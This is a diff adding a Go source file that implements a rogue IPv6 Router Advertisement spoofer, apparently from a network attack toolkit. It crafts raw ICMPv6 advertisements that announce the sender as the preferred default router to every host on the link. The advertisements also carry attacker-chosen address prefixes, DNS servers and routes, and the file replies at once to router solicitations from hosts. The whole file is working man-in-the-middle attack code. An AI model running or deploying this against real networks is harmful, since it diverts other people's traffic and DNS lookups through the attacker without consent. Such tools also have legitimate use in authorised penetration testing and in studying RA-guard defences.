@@ -0,0 +1,179 @@
+package spoof
+
+import (
+	"context"
+	"encoding/binary"
+	"errors"
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+	"github.com/tinygoprogs/netmess/discovery"
+	"log"
+	"net"
+	"time"
+)
+
+// ICMPv6 option types missing in gopacket/layers
+const (
+	icmpv6OptRouteInfo layers.ICMPv6Opt = 24 // RFC 4191
+	icmpv6OptRDNSS     layers.ICMPv6Opt = 25 // RFC 8106
+)
+
+// Advertises us as (preferred) default IPv6 router, making hosts on the link
+// autoconfigure SLAAC addresses out of Prefixes. On Stop the router and all
+// its options are withdrawn by advertising lifetime 0.
+//
+// Implements Spoof interface.
+type RA struct {
+	stats
+	// on-link prefixes for SLAAC, /64
+	Prefixes []*net.IPNet
+	// recursive DNS servers (RDNSS)
+	DNS []net.IP
+	// more-specific routes via us (route information)
+	Routes []*net.IPNet
+	// lifetime of the router, the prefixes, DNS servers and routes
+	Lifetime time.Duration
+	// unsolicited advertisements are sent every InjectRate, solicitations
+	// are answered right away
+	InjectRate time.Duration
+
+	net      *discovery.Network
+	listener *discovery.Listener
+	src      net.IP
+	cancel   context.CancelFunc
+	// closed once inject_loop returned
+	done chan struct{}
+}
+
+// Advertise the given prefixes, e.g. "2001:db8:1::/64".
+func NewRA(n *discovery.Network, prefix ...string) (*RA, error) {
+	ra := RA{
+		Lifetime:   time.Second * 1800,
+		InjectRate: time.Second * 3,
+		net:        n,
+		src:        n.LinkLocal(),
+	}
+	for _, p := range prefix {
+		_, ipnet, err := net.ParseCIDR(p)
+		if err != nil {
+			return nil, err
+		}
+		if ipnet.IP.To4() != nil {
+			return nil, errors.New("not an ipv6 prefix: " + p)
+		}
+		ra.Prefixes = append(ra.Prefixes, ipnet)
+	}
+	return &ra, nil
+}
+
+var raReason = discovery.ListenerReason{Class: discovery.InteractiveListener, Name: "spoof ra: router solicitations"}
+
+func (ra *RA) inject_loop(ctx context.Context) {
+	defer close(ra.done)
+	ticker := time.NewTicker(ra.InjectRate)
+	defer ticker.Stop()
+	for {
+		ra.inject(ra.Lifetime)
+		select {
+		case <-ticker.C:
+		case <-ctx.Done():
+			return
+		}
+	}
+}
+
+// start advertising
+func (ra *RA) Start() error {
+	var err error
+	ra.listener, err = ra.net.Listeners.Add(raReason, func(pkt gopacket.Packet) {
+		if pkt.Layer(layers.LayerTypeICMPv6RouterSolicitation) != nil {
+			ra.inject(ra.Lifetime)
+			ra.hit(pkt.NetworkLayer().NetworkFlow().Src().String())
+		}
+	})
+	if err != nil {
+		return err
+	}
+	var ctx context.Context
+	ctx, ra.cancel = context.WithCancel(context.Background())
+	ra.done = make(chan struct{})
+	go ra.inject_loop(ctx)
+	return nil
+}
+
+// stop advertising and withdraw router, prefixes and options
+func (ra *RA) Stop() {
+	if ra.cancel == nil {
+		// never started
+		return
+	}
+	ra.cancel()
+	// a last advertisement must not undo the withdrawal
+	<-ra.done
+	ra.listener.Remove()
+	for i := 0; i < 3; i++ {
+		ra.inject(0)
+	}
+	log.Printf("[+] ra: withdrawn %v", ra.src)
+}
+
+func (ra *RA) inject(lifetime time.Duration) {
+	secs := uint32(lifetime / time.Second)
+	opts := layers.ICMPv6Options{
+		{Type: layers.ICMPv6OptSourceAddress, Data: ra.net.Localhost.Mac},
+	}
+	for _, p := range ra.Prefixes {
+		ones, _ := p.Mask.Size()
+		data := make([]byte, 30)
+		data[0] = byte(ones)
+		data[1] = 0xc0                                  // on-link, autonomous
+		binary.BigEndian.PutUint32(data[2:], secs+7200) // valid
+		binary.BigEndian.PutUint32(data[6:], secs)      // preferred
+		copy(data[14:], p.IP.To16())
+		opts = append(opts, layers.ICMPv6Option{Type: layers.ICMPv6OptPrefixInfo, Data: data})
+	}
+	if len(ra.DNS) > 0 {
+		data := make([]byte, 6, 6+16*len(ra.DNS))
+		binary.BigEndian.PutUint32(data[2:], secs)
+		for _, ip := range ra.DNS {
+			data = append(data, ip.To16()...)
+		}
+		opts = append(opts, layers.ICMPv6Option{Type: icmpv6OptRDNSS, Data: data})
+	}
+	for _, r := range ra.Routes {
+		ones, _ := r.Mask.Size()
+		data := make([]byte, 22)
+		data[0] = byte(ones)
+		data[1] = 0x08 // high preference
+		binary.BigEndian.PutUint32(data[2:], secs)
+		copy(data[6:], r.IP.To16())
+		opts = append(opts, layers.ICMPv6Option{Type: icmpv6OptRouteInfo, Data: data})
+	}
+
+	leth := layers.Ethernet{
+		SrcMAC:       ra.net.Localhost.Mac,
+		DstMAC:       discovery.MulticastMAC6(discovery.IPv6AllNodes),
+		EthernetType: layers.EthernetTypeIPv6,
+	}
+	lip := layers.IPv6{
+		Version:    6,
+		HopLimit:   255,
+		NextHeader: layers.IPProtocolICMPv6,
+		SrcIP:      ra.src,
+		DstIP:      discovery.IPv6AllNodes,
+	}
+	licmp := layers.ICMPv6{
+		TypeCode: layers.CreateICMPv6TypeCode(layers.ICMPv6TypeRouterAdvertisement, 0),
+	}
+	licmp.SetNetworkLayerForChecksum(&lip)
+	lra := layers.ICMPv6RouterAdvertisement{
+		HopLimit:       64,
+		Flags:          0x08, // high default router preference
+		RouterLifetime: uint16(secs),
+		Options:        opts,
+	}
+	if secs > 0xffff {
+		lra.RouterLifetime = 0xffff
+	}
+	ra.write(ra.net, &leth, &lip, &licmp, &lra)
+}